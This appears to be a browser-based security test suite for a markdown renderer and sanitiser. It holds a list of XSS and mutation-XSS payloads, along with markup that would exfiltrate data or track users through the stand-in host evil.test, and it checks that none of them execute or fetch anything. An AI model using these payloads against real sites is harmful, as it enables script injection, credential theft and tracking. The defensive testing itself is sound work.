/**
 * Hostile messages in a real browser, under the page's own content security policy: nothing runs, nothing is fetched,
 * nothing but the allowed markup reaches the page. Another parser than the browser's would prove little.
 */
import { existsSync } from 'node:fs';
import { type Browser, chromium, type Page } from 'playwright-core';
import { build, type Rolldown } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const ORIGIN = 'http://page.test';
const POLICY =
  "default-src 'none'; script-src 'self'; img-src *; style-src 'none'; require-trusted-types-for 'script'; " +
  'trusted-types dompurify';
const ENTRY = `
  export { renderBlock, renderTail } from '/client/markdown/render.ts';
  export { loadMathsParser, plainParser } from '/client/markdown/parse.ts';
  export { sanitize } from '/client/markdown/sanitize.ts';
`;

/** As markdown, and as HTML that some parser bug might let through to the sanitiser. */
const ATTACKS = [
  '<script>fired()</script>',
  '<img src=x onerror=fired()>',
  '<svg onload=fired()><animate onbegin=fired() attributeName=x>',
  '<svg><script>fired()</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=fired()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=fired()></annotation-xml></math>',
  '<math href="javascript:fired()"><mi>x</mi></math>',
  '<math><mi xlink:href="javascript:fired()">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=fired() src=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=fired()>">',
  '<noscript><p title="</noscript><img src=x onerror=fired()>">',
  '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
  '<object data="javascript:fired()"></object><embed src="javascript:fired()">',
  '<a href="javascript:fired()">a</a>',
  '<a href="jav&#x09;ascript:fired()">a</a>',
  '<a href="data:text/html,<script>fired()</script>">a</a>',
  '<base href="https://evil.test/"><a href="x">a</a>',
  '<form action="https://evil.test/"><input name=password><button>ok</button></form>',
  '<input type=image src=https://evil.test/i.png>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/s)">x</p>',
  '<style>@import "https://evil.test/c.css"; * { background: url(https://evil.test/b) }</style>',
  '<link rel=stylesheet href=https://evil.test/c.css><meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<img src=https://evil.test/track.png><picture><source srcset=https://evil.test/p></picture>',
  '<video poster=https://evil.test/v src=https://evil.test/w autoplay></video><audio src=https://evil.test/a></audio>',
  '<p id=app class="button primary" name=cookie data-x=1 aria-hidden=true>x</p>',
  '<template><img src=x onerror=fired()></template>',
  '<details open ontoggle=fired()><summary>x</summary></details>',
  '<marquee onstart=fired()>x</marquee>',
  '[a](javascript:fired())',
  '[a](<java\nscript:fired()>)',
  '[a](vbscript:fired())',
  '[a](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)',
  '[a](https://ok.test "\\"onmouseover=fired() x=\\"")',
  '![a](https://evil.test/i.png)',
  '![a](x"onerror="fired())',
  '![a](javascript:fired())',
  '<https://ok.test/"onclick="fired()>',
  '`<img src=x onerror=fired()>`',
  '```"onload=fired()\n<img src=x onerror=fired()>\n```',
  '```html\n</code></pre><img src=x onerror=fired()>\n```',
  '| <img src=x onerror=fired()> |\n|---|\n| [a](javascript:fired()) |',
  '- [ ] <input onfocus=fired() autofocus>',
  '$\\href{javascript:fired()}{x}$',
  '$\\url{javascript:fired()}$',
  '$\\includegraphics{https://evil.test/i.png}$',
  '$\\htmlData{x=1}{\\htmlStyle{background:url(https://evil.test/)}{x}}$',
  '$\\text{<img src=x onerror=fired()>}$',
  '$<img src=x onerror=fired()>\\bad{$',
  '$$\n</annotation></semantics></math><img src=x onerror=fired()>\n$$',
  '&lt;img src=x onerror=fired()&gt;',
];

let browser: Browser;
let page: Page;
const fetched: string[] = [];

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error('Chromium is missing: install it, or set CHROMIUM_PATH');
  const bundle = (await build({
    configFile: false,
    logLevel: 'error',
    plugins: [
      {
        name: 'entry',
        resolveId: (id) => (id.endsWith('virtual-entry') ? '\0entry' : null),
        load: (id) => (id === '\0entry' ? ENTRY : null),
      },
    ],
    build: { write: false, minify: false, lib: { entry: 'virtual-entry', formats: ['iife'], name: 'markdown' } },
  })) as Rolldown.RolldownOutput[];
  const code = bundle[0]!.output[0].code;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu'] });
  page = await browser.newPage();
  await page.route('**', (route) => {
    const url = route.request().url();
    if (url === `${ORIGIN}/`)
      return route.fulfill({
        contentType: 'text/html; charset=utf-8',
        headers: { 'content-security-policy': POLICY },
        body: '<!doctype html><div id="app"></div><script src="/bundle.js"></script>',
      });
    if (url === `${ORIGIN}/bundle.js`)
      return route.fulfill({
        contentType: 'text/javascript; charset=utf-8',
        body: `${code}\nvar fires = 0; function fired() { fires += 1; }`,
      });
    fetched.push(url);
    return route.abort();
  });
  await page.goto(`${ORIGIN}/`);
});

afterAll(() => browser?.close());

/** What ended up in the page: element and attribute names, addresses, and whether anything ran. */
async function show(source: string, how: 'markdown' | 'html') {
  return await page.evaluate(
    async ([text, kind]) => {
      const scope = globalThis as unknown as {
        markdown: {
          renderBlock(raw: string, parser: unknown): string;
          renderTail(raw: string, parser: unknown): string;
          sanitize(html: string): string;
          loadMathsParser(): Promise<unknown>;
          plainParser: unknown;
        };
        fires: number;
        document: {
          getElementById(id: string): {
            innerHTML: string;
            querySelectorAll(
              selector: string,
            ): Iterable<{ localName: string; attributes: Iterable<{ name: string; value: string }> }>;
          };
        };
      };
      const { markdown } = scope;
      const maths = await markdown.loadMathsParser();
      const safe =
        kind === 'html'
          ? [markdown.sanitize(text!)]
          : [
              markdown.renderBlock(text!, maths),
              markdown.renderTail(text!, maths),
              markdown.renderBlock(text!, markdown.plainParser),
            ];
      const app = scope.document.getElementById('app');
      const htmls: string[] = [];
      const names: string[] = [];
      const addresses: string[] = [];
      for (const html of safe) {
        app.innerHTML = html;
        htmls.push(app.innerHTML);
        await new Promise((resolve) => setTimeout(resolve, 5));
        for (const element of app.querySelectorAll('*')) {
          names.push(element.localName);
          for (const { name, value } of element.attributes) {
            names.push(`@${name}`);
            if (/href|src/.test(name)) addresses.push(value);
          }
        }
      }
      return { names: [...new Set(names)], addresses, fires: scope.fires, htmls };
    },
    [source, how] as const,
  );
}

const FORBIDDEN =
  /^(script|img|svg|style|iframe|object|embed|form|button|base|meta|link|template|video|audio|picture|source|details|annotation|@on.*|@style|@id|@name|@src|@srcset|@data.*|@aria.*|@xlink.*)$/;

describe.each(['markdown', 'html'] as const)('an attack written as %s', (how) => {
  it.each(ATTACKS)('%s', async (attack) => {
    const { names, addresses, fires } = await show(attack, how);
    expect(names.filter((name) => FORBIDDEN.test(name))).toEqual([]);
    for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:)/);
    expect(fires).toBe(0);
    expect(fetched).toEqual([]);
  });
});

describe('what must survive', () => {
  it('keeps links, and makes them safe to follow', async () => {
    const { htmls } = await show('[书](https://a.example/x?y=1)', 'markdown');
    const html = htmls[0];
    expect(html).toContain('href="https://a.example/x?y=1"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('noopener');
  });

  it('keeps lists, tables, code and task boxes', async () => {
    const { names } = await show('1. 一\n\n| a | b |\n|:-:|--:|\n| c | d |\n\n```js\nx\n```\n\n- [x] 好', 'markdown');
    expect(names).toEqual(
      expect.arrayContaining(['ol', 'table', 'th', '@align', 'pre', 'code', 'input', '@checked', '@disabled']),
    );
  });

  it('keeps formulas once, without their TeX source beside them', async () => {
    const { htmls } = await show('$$\n\\frac{a}{b}\n$$', 'markdown');
    expect(htmls[0]).toContain('<math display="block">');
    expect(htmls[0]).not.toContain('frac{');
  });

  it('is TrustedHTML, so the page can forbid every other way in', async () => {
    const refused = await page.evaluate(() => {
      const scope = globalThis as unknown as { document: { getElementById(id: string): { innerHTML: string } } };
      try {
        scope.document.getElementById('app').innerHTML = '<b>x</b>';
        return false;
      } catch {
        return true;
      }
    });
    expect(refused).toBe(true);
  });
});
